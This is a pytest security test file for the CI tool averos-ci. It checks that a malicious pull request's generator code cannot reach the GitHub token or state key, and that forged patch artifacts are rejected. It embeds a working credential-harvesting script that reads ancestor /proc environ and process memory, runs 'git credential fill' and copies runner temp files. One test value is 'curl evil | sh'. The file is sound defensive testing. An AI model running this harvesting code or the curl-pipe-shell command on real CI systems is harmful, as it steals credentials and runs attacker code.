"""The code change of a pull request is generated where no write credential is reachable, and
what that generation hands on is read as data only.

Attack 1 — a PR whose generator code steals the token. The adapter here (``probe``, a
regenerating adapter installed like any third-party one) runs ``probe/steal.py`` from the
checked-out pull request before its first node, as the Angular adapter runs the checkout's
schematics and npm packages. The PR adds that script: it collects its environment, the
``/proc/<pid>/environ`` of every ancestor, the *memory* of the averos-ci processes above it
(``/proc/<pid>/mem``: readable by a same-user child where the kernel allows tracing, as on
this machine — so a token averos-ci held only in memory would be found), git's credential
configuration and a credential fill, ``.git/config`` and every file under ``$RUNNER_TEMP``.
Run through the plan workflow (:meth:`tests.github.gh_world.World.plan_workflow`: plan →
patch → complete), it finds
neither the token nor the state key — and the control shows it would find a token that was
there.

Attack 2 — a forged result file. The patch job runs the PR's code, so its artifact is
attacker-controlled: a wrong head, another semantic plan, bad JSON, a huge file, a patch
whose content does not match its hash, an unknown key — ``complete`` refuses each with a
located error (exit 2) and a failure status, and the comment stays pending.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import textwrap
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from averos_ci.github.patch_result import MAX_RESULT_BYTES
from tests.conftest import GIT_IDENTITY
from tests.github.gh_fake import TOKEN, FakeGitHub, running_fake
from tests.github.gh_steps import (
    apply_first_pr,
    open_pr_from_main,
    sticky,
)
from tests.github.gh_world import (
    REPO_ROOT,
    PlanWorkflow,
    World,
    git,
    make_world,
    manifest_variant,
)

SITE = Path(__file__).parent / "probe_adapter_site"
STATE_KEY = "st4te-k3y-SECRET-0123456789"

STEAL = textwrap.dedent(
    r'''
    """What a malicious pull request's generator code does (run by the probe adapter)."""
    import json, os, re, subprocess
    from pathlib import Path

    found = {"environ": dict(os.environ), "ancestors": [], "files": {}, "git": {}}
    pid = os.getpid()
    while pid > 1:
        try:
            environ = Path(f"/proc/{pid}/environ").read_bytes().decode("latin1")
        except OSError as exc:
            environ = f"unreadable: {exc}"
        stat = Path(f"/proc/{pid}/stat").read_text("latin1")
        found["ancestors"].append({"pid": pid, "environ": environ})
        pid = int(stat[stat.rindex(")") + 2 :].split()[1])
    # the memory of the averos-ci processes above (a same-user child may read it where the
    # kernel allows tracing, as here): a token held only in memory would be there
    secret = re.compile(rb"ghs_[A-Za-z0-9]{20,}|st4te-k3y-[A-Za-z0-9-]+")
    found["memory"] = {}
    for ancestor in found["ancestors"][1:]:
        pid = ancestor["pid"]
        if b"averos_ci" not in Path(f"/proc/{pid}/cmdline").read_bytes():
            continue
        hits, scanned = set(), 0
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
                for line in maps:
                    fields = line.split()
                    start, end = (int(x, 16) for x in fields[0].split("-"))
                    if "r" not in fields[1] or end - start > 1 << 30:
                        continue
                    try:
                        mem.seek(start)
                        data = mem.read(end - start)
                    except (OSError, ValueError, OverflowError):
                        continue
                    scanned += len(data)
                    hits.update(m.decode("latin1") for m in secret.findall(data))
        except OSError as exc:
            hits = {f"unreadable: {exc}"}
        found["memory"][pid] = {"scanned": scanned, "hits": sorted(hits)}
    workspace = Path(os.environ["GITHUB_WORKSPACE"])

    def run(*args, stdin=""):
        p = subprocess.run(args, cwd=workspace, input=stdin, capture_output=True, text=True,
                           env={**os.environ, "GIT_TERMINAL_PROMPT": "0"}, timeout=20)
        return p.stdout + p.stderr

    found["git"]["config"] = run("git", "config", "--list", "--show-origin")
    found["git"]["fill"] = run("git", "credential", "fill",
                               stdin="protocol=https\nhost=github.com\n\n")
    found["git"]["dotgit"] = (workspace / ".git" / "config").read_text()
    for path in Path(os.environ["RUNNER_TEMP"]).rglob("*"):
        if path.is_file() and path.stat().st_size < 2_000_000:
            found["files"][str(path)] = path.read_bytes().decode("latin1")
    out = Path(os.environ["AVEROS_PROBE_OUT"])
    out.write_text(json.dumps(found))
    '''
)


def applied_world(tmp_path: Path, fake: FakeGitHub, *, adapter: str = "mock") -> World:
    """Main holds PR #1's application (applied, committed back), so the next plans have a
    workspace to merge into and need their code change; a state key is configured."""
    fake.roles.update(alice="write", bob="write")
    # each job a fresh process: the probe reads the environ and memory of its ancestors
    world = make_world(tmp_path, fake, adapter_options={"writeFiles": True}, fork_jobs=False)
    world.extra_env.update(
        PYTHONPATH=os.pathsep.join([str(SITE), str(REPO_ROOT)]),
        AVEROS_CI_STATE_KEY=STATE_KEY,
        AVEROS_PROBE_OUT=str(tmp_path / "stolen.json"),
    )
    if adapter != "mock":
        config = json.loads((world.dev / "averos.config.json").read_text(encoding="utf-8"))
        config.update(adapter=adapter, adapterOptions={})
        world.commit("main", {"averos.config.json": json.dumps(config)}, "probe adapter")
    return apply_first_pr(world)


def test_the_pull_requests_generator_finds_no_token_in_the_patch_job(
    tmp_path: Path, fake: FakeGitHub
) -> None:
    world = applied_world(tmp_path, fake, adapter="probe")
    loot = tmp_path / "stolen.json"
    assert not loot.exists()  # PR #1 had no probe: nothing ran yet
    git(world.dev, "checkout", "-q", "main")
    git(world.dev, "pull", "-q", "--ff-only", "origin", "main")
    fake.base_sha = git(world.dev, "rev-parse", "HEAD")
    (world.dev / "probe").mkdir()
    files = {"todoapp.manifest.yaml": manifest_variant(2), "probe/steal.py": STEAL}
    head = world.commit("change-2", files, "a change, and a generator that steals")
    fake.add_pull(2, author="alice", head_sha=head, head_ref="change-2")
    wf = world.plan_workflow(2, head)
    assert wf.plan.code == 0, wf.plan.stdout + wf.plan.stderr
    assert wf.patch is not None and wf.patch.code == 0, wf.patch.stdout + wf.patch.stderr
    assert wf.complete is not None and wf.complete.code == 0, wf.complete.stderr
    found = json.loads(loot.read_text(encoding="utf-8"))
    # the probe did look: its ancestors up to the runner, the memory of averos-ci, the
    # checkout's git, the runner folder
    assert len(found["ancestors"]) >= 3
    assert found["memory"] and all(m["scanned"] > 1_000_000 for m in found["memory"].values())
    assert "[remote" in found["git"]["dotgit"]
    assert any(p.endswith("event.json") for p in found["files"])
    dump = json.dumps(found)
    assert TOKEN not in dump, "the pull request's generator read the token"
    assert STATE_KEY not in dump, "the pull request's generator read the state key"
    # and the complete job published the code change the generator computed
    _, meta = sticky(fake, 2)
    assert not meta.pending and meta.semantic_hash == wf.plan.outputs["plan-hash"]


def test_control_the_probe_finds_a_token_its_parent_holds(tmp_path: Path) -> None:
    """The probe is not blind: under a parent that holds the token, it finds it."""
    (tmp_path / "ws").mkdir()
    git(tmp_path / "ws", "init", "-q")
    git(tmp_path / "ws", "remote", "add", "origin", "https://github.com/o/r.git")
    script = tmp_path / "steal.py"
    script.write_text(STEAL, encoding="utf-8")
    out = tmp_path / "loot.json"
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith("GITHUB_")},
        "GITHUB_TOKEN": TOKEN,
        "GITHUB_WORKSPACE": str(tmp_path / "ws"),
        "RUNNER_TEMP": str(tmp_path),
        "AVEROS_PROBE_OUT": str(out),
    }
    # the parent (named like averos-ci) keeps the token in memory, out of its children's env
    parent = (
        "import os, subprocess, sys  # averos_ci\n"
        "held = os.environ.pop('GITHUB_TOKEN')\n"
        f"subprocess.run([sys.executable, {str(script)!r}], check=True)\n"
    )
    subprocess.run([sys.executable, "-c", parent], env=env, check=True, timeout=120)
    found = json.loads(out.read_text(encoding="utf-8"))
    assert TOKEN not in json.dumps(found["environ"])  # scrubbed from the child's environment
    assert TOKEN in json.dumps(found["ancestors"])  # but the parent's /proc/<pid>/environ has it
    [memory] = found["memory"].values()
    assert TOKEN in memory["hits"]  # and its memory


def test_the_patch_command_refuses_to_run_with_a_token(tmp_path: Path, fake: FakeGitHub) -> None:
    world = applied_world(tmp_path, fake)
    head = open_pr_from_main(world, 2, manifest_variant(2))
    checkout = world.checkout(head)
    env = world.job_env("pull_request", world.pr_event("opened", 2), checkout, head)
    proc = subprocess.run(
        [sys.executable, "-m", "averos_ci", "github", "patch"],
        cwd=checkout,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "must hold no credential" in proc.stderr
    assert TOKEN not in proc.stdout + proc.stderr


@dataclass
class Forged:
    """One pull request whose plan workflow stopped before ``complete``: each case forges a
    copy of what its patch job uploaded and runs ``complete`` on it."""

    world: World
    fake: FakeGitHub
    workflow: PlanWorkflow
    head: str
    number: int = 10


@pytest.fixture(scope="module")
def forged(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Forged]:
    with running_fake() as fake, pytest.MonkeyPatch.context() as mp:
        for name, value in GIT_IDENTITY.items():  # module scope: before the autouse identity
            mp.setenv(name, value)
        world = applied_world(tmp_path_factory.mktemp("forged"), fake)
        head = open_pr_from_main(world, Forged.number, manifest_variant(2))
        workflow = world.plan_workflow(Forged.number, head, complete=False)
        assert workflow.artifact is not None, workflow.plan.stdout + workflow.plan.stderr
        yield Forged(world, fake, workflow, head)


def _edit(change: Callable[[dict[str, object]], None]) -> Callable[[Path], None]:
    def edit(path: Path) -> None:
        data = json.loads(path.read_text(encoding="utf-8"))
        change(data)
        path.write_text(json.dumps(data), encoding="utf-8")

    return edit


def _write(text: str) -> Callable[[Path], None]:
    return lambda path: path.write_text(text, encoding="utf-8")


def _huge(path: Path) -> None:
    with path.open("w", encoding="utf-8") as f:
        f.write('{"formatVersion": 1, "pad": "')
        f.write("x" * (MAX_RESULT_BYTES + 1))
        f.write('"}')


def _tamper_diff(data: dict[str, object]) -> None:
    patch = data["codePatch"]
    assert isinstance(patch, dict)
    patch["files"][0]["diff"] = "+ all is well\n"  # the hash is left as it was


CASES: dict[str, tuple[Callable[[Path], None], str]] = {
    "wrong head": (_edit(lambda d: d.update(headSha="1" * 40)), "computed for head 111111111111"),
    "wrong semantic plan": (
        _edit(lambda d: d.update(semanticPlanHash="2" * 64)),
        "computed for semantic plan 222222222222",
    ),
    "another project": (_edit(lambda d: d.update(project="other")), "computed for project"),
    "bad JSON": (_write('{"formatVersion": 1,'), "invalid JSON"),
    "huge": (_huge, "larger than"),
    "altered patch": (_edit(_tamper_diff), "the file was altered"),
    "unknown key": (_edit(lambda d: d.update(run="curl evil | sh")), "run"),
    "no code change": (_edit(lambda d: d.update(codePatch=None)), "holds no code change"),
}


@pytest.mark.parametrize("case", list(CASES))
def test_a_forged_result_is_refused_by_complete(forged: Forged, case: str, tmp_path: Path) -> None:
    forge, message = CASES[case]
    assert forged.workflow.artifact is not None
    artifact = tmp_path / forged.workflow.artifact.name
    shutil.copyfile(forged.workflow.artifact, artifact)
    forge(artifact)
    posted, (shown, _) = len(forged.fake.statuses), sticky(forged.fake, forged.number)
    wf = forged.world.complete_job(forged.workflow, forged.head, artifact=artifact)
    assert wf.complete is not None
    r = wf.complete
    assert r.code == 2, r.stdout + r.stderr
    assert message in r.stderr
    assert "averos-patch.json" in r.stderr  # located: the artifact's path
    assert "Traceback" not in r.stderr
    ours = [s for s in forged.fake.statuses[posted:] if s["sha"] == forged.head]
    assert ours and ours[-1]["state"] == "failure"  # this run's status, not an earlier case's
    body, meta = sticky(forged.fake, forged.number)
    assert meta.pending and body == shown  # nothing of the forged result was shown


def test_the_unforged_result_completes_the_plan(forged: Forged) -> None:
    """The control: the same artifact, as uploaded, is taken (run after the forged cases)."""
    wf = forged.world.complete_job(forged.workflow, forged.head)
    assert wf.complete is not None and wf.complete.code == 0, wf.complete.stderr
    _, meta = sticky(forged.fake, forged.number)
    assert not meta.pending
